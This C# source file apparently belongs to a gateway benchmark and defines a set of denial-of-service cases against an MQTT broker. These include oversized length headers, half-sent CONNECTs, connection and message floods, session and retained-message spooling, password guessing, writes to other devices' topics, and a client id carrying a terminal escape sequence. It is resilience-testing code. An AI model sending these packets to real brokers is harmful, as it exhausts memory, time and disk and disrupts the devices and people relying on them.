using System.Globalization;
using System.Text;
using MQTTnet;
using MQTTnet.Packets;
using MQTTnet.Protocol;

namespace SmartPilots.Benchmarks.Gateway;

/// <summary>Every way known to take an open gateway's memory, time or disk, with no credential or with that of one device.</summary>
/// <param name="user">The attackers' own credential, of a device of this name.</param>
internal sealed class Attacks(string user)
{
    private const int Announced = 15 << 10; // of the 16 KB that a CONNECT may have

    private static readonly byte[] Nothing = [];

    private readonly string _device = GatewayServer.Site + user;

    private string Own => _device + "/readings";

    private string Commands => _device + "/commands";

    public IReadOnlyList<Attack> All() =>
    [
        new("256 MB announced in 5 bytes", 36, null, _ => [0x10, 0xff, 0xff, 0xff, 0x7f], Then.Stay),
        new("CONNECT without its end", 500, null, _ => [0x10, 0xff, 0x7f, 0, 4, .. "MQTT"u8, .. new byte[Announced]], Then.Stay),
        new("silent connections", 1_000, null, _ => Nothing, Then.Stay),
        new("silent connections, port for TLS", 1_000, null, _ => Nothing, Then.Stay) { OverTls = true },
        new("wrong passwords", 8, i => Connect($"guess-{i}", user, $"{i}"), _ => Nothing, Then.Stay),
        new("a client id taken over and over", 4, _ => Connect("same"), _ => Encode(Subscribe(1)), Then.Follow) { Reads = false },
        new("filters by the thousand", 4, i => Connect($"filters-{i}"), _ => Encode(Subscribe(5_000)), Then.Stay),
        new("PINGREQ, answers not read", 8, i => Connect($"pings-{i}"), _ => Repeated([0xc0, 0], 16_384), Then.Repeat) { Reads = false },
        new("PUBLISH, answers not read", 8, i => Connect($"unread-{i}"), _ => Publishes(200, 100, Own), Then.Repeat) { Reads = false },
        new("5,000 topic aliases", 4, i => Connect($"aliases-{i}"), _ => Aliases(5_000), Then.Stay),
        new("topics that are not UTF-8", 4, i => Connect($"bytes-{i}"), _ => [0x32, 8, 0, 3, 0x61, 0xff, 0x62, 0, 1, 0], Then.Stay),
        new("empty ids, sessions to be kept", 4, null, _ => EmptyId(), Then.Stay),
        new("ever new sessions", 4, i => Connect($"session-{i}", kept: true), _ => Encode(Subscribe(1)), Then.Follow),
        new("retained, ever new topics", 4, i => Connect($"retain-{i}"), Retained, Then.Repeat),
        new("messages for an absent session", 2, i => i % 50 == 0 ? Connect("absent", kept: true) : Connect($"sender-{i}", GatewayServer.User),
            i => i % 50 == 0 ? Encode(Subscribe(1)) : Publishes(10, 10_000, Commands), Then.Follow),
        new("other devices' topics", 4, i => Connect($"\u001b[2J{new string('x', 200)}{i}"),
            _ => Publishes(500, 50, GatewayServer.Site + "other/readings", 0), Then.Repeat),
        new("QoS 2, never released", 4, i => Connect($"held-{i}"), _ => Publishes(500, 100, Own, 2), Then.Repeat),
        new("the spool filled by one", 4, i => Connect($"large-{i}"), _ => Publishes(4, 250_000, Own), Then.Repeat),
    ];

    private MqttConnectPacket Connect(string id, string? other = null, string password = GatewayServer.Password, bool kept = false) => new()
    {
        ClientId = id,
        CleanSession = !kept,
        SessionExpiryInterval = kept ? 3600u : 0,
        Username = other ?? user,
        Password = Encoding.UTF8.GetBytes(password),
    };

    private MqttSubscribePacket Subscribe(int filters) => new()
    {
        PacketIdentifier = 1,
        TopicFilters = [.. Enumerable.Range(0, filters).Select(i => new MqttTopicFilter
        {
            Topic = filters == 1 ? Commands : string.Create(CultureInfo.InvariantCulture, $"{Own}/{i}"), QualityOfServiceLevel = MqttQualityOfServiceLevel.AtLeastOnce,
        })],
    };

    private static byte[] Publishes(int count, int bytes, string topic, int qos = 1) =>
        [.. Enumerable.Range(1, count).SelectMany(i => Encode(Publish(topic, i, bytes, qos)))];

    private byte[] Aliases(int count) => [.. Enumerable.Range(1, count).SelectMany(i =>
    {
        var publish = Publish(Own, i, 10, 1);
        publish.TopicAlias = (ushort)i;
        return Encode(publish);
    })];

    private byte[] Retained(int round) => [.. Enumerable.Range(1, 50).SelectMany(i =>
    {
        var publish = Publish(string.Create(CultureInfo.InvariantCulture, $"{_device}/{(round * 50) + i}"), i, 1_000, 1);
        (publish.Retain, publish.MessageExpiryInterval) = (true, 1);
        return Encode(publish);
    })];

    private static MqttPublishPacket Publish(string topic, int id, int bytes, int qos) => new()
    {
        Topic = topic,
        PacketIdentifier = (ushort)(qos == 0 ? 0 : id),
        QualityOfServiceLevel = (MqttQualityOfServiceLevel)qos,
        PayloadSegment = new byte[bytes],
    };

    // A CONNECT of MQTT 3.1.1 that the library would not write.
    private byte[] EmptyId()
    {
        var (name, secret) = (Encoding.UTF8.GetBytes(user), Encoding.UTF8.GetBytes(GatewayServer.Password));
        return [0x10, (byte)(16 + name.Length + secret.Length), 0, 4, .. "MQTT"u8, 4, 0xc0, 0, 0, 0, 0, 0, (byte)name.Length, .. name, 0, (byte)secret.Length, .. secret];
    }

    private static byte[] Encode(MqttPacket packet) => Attacker.Encode(packet);

    private static byte[] Repeated(byte[] bytes, int times) => [.. Enumerable.Repeat(bytes, times).SelectMany(b => b)];
}
